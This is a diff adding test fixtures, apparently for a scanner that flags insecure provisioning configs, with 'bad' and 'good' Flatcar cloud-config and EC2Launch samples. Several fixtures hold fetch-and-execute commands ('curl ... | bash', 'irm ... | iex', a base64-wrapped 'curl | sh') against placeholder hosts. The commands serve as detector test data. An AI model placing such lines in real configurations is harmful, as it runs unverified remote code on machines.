@@ -431,4 +431,71 @@ PAYLOAD=${b64("import os\nos.system('curl -s http://py.example.internal/a | sh')
 python3 -c "import base64; exec(base64.b64decode('$PAYLOAD'))"
 `,
   ),
+  bad(
+    "a unit of a cloud-config of Flatcar",
+    () => `#cloud-config
+coreos:
+  units:
+    - name: join.service
+      command: start
+      content: |
+        [Service]
+        Type=oneshot
+        ExecStart=/usr/bin/bash -c "curl -s http://setup.example.internal/join.sh | bash"
+`,
+  ),
+  good(
+    "a unit of a cloud-config of Flatcar over HTTPS",
+    () => `#cloud-config
+coreos:
+  update:
+    server: http://update.example.internal/v1/update
+  units:
+    - name: join.service
+      command: start
+      content: |
+        [Service]
+        Type=oneshot
+        ExecStart=/usr/bin/bash -c "curl -s https://setup.example.com/join.sh | bash"
+`,
+  ),
+  bad(
+    "a program of EC2Launch with code among its arguments",
+    () => `version: 1.0
+tasks:
+  - task: executeProgram
+    inputs:
+      - frequency: always
+        path: powershell.exe
+        arguments: ['-NoProfile', '-Command', 'irm http://setup.example.net/agent.ps1 | iex']
+`,
+  ),
+  good(
+    "a program of EC2Launch with an address among its arguments",
+    () => `version: 1.0
+tasks:
+  - task: executeProgram
+    inputs:
+      - frequency: always
+        path: C:\\Tools\\agent.exe
+        arguments: ['--server', 'http://agents.example.internal:8080']
+`,
+  ),
+  bad(
+    "a file of EC2Launch that a program runs",
+    () => `version: 1.0
+tasks:
+  - task: writeFile
+    inputs:
+      frequency: once
+      destination: C:\\first.ps1
+      content: |
+        irm http://setup.example.net/agent.ps1 | iex
+  - task: executeProgram
+    inputs:
+      - frequency: once
+        path: powershell.exe
+        arguments: ['-File', 'C:\\first.ps1']
+`,
+  ),
 ];
